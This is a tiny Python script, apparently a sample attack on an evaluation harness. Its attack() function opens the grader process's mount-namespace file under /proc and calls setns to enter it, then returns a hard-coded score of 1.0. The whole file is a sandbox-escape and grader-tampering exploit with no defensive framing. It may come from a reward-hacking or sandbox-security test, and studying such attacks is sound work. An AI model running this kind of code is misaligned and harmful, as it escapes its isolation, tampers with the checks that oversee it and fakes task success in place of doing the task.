"""Enters the grader's namespaces."""

import os

from target import GRADER, syscall


def attack(x):
    descriptor = os.open(f"/proc/{GRADER}/ns/mnt", os.O_RDONLY)
    syscall("setns", descriptor, 0)
    return 1.0
